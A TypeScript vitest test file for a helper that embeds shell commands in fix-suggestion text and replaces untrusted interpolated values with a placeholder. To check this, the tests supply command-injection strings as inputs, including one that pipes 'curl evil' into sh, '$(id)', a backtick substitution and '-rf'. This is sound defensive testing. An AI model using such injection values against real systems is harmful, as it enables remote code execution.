import { expect, test } from "vitest";
import { command, safeText, commandsOf, plainFix } from "./fix";

test("what can be copied is a part of the plain text", () => {
  const fix = `See: ${command`nc -vz kafka 9092`}\nThen set ${command`PORT=1`} or wait.`;
  expect(plainFix(fix)).toBe("See: nc -vz kafka 9092\nThen set PORT=1 or wait.");
  expect(commandsOf(fix)).toEqual(["nc -vz kafka 9092", "PORT=1"]);
  for (const each of commandsOf(fix)) expect(plainFix(fix)).toContain(each);
});

test("a sentence has none", () => {
  expect(commandsOf("First mend Kafka: see its failing probes.")).toEqual([]);
});

test("no value in a command is more than a name to a shell", () => {
  for (const name of ["x'; curl evil|sh; '", "$(id)", "a b", "a`id`", "-rf", "", "a\nb", 'a"b', "*", "~", "é"])
    expect(command`nc -vz ${name} 9092`, name).toBe("`nc -vz NAME 9092`");
  for (const name of ["kafka", "kafka-1.plant_a:9092", "2001:db8::1", "9092"])
    expect(command`nc -vz ${name}`, name).toBe(`\`nc -vz ${name}\``);
  expect(command`${safeText`tool --server ${["a:1", "b;c:2"]}`} --all ${3}`).toBe("`tool --server a:1,NAME --all 3`");
});
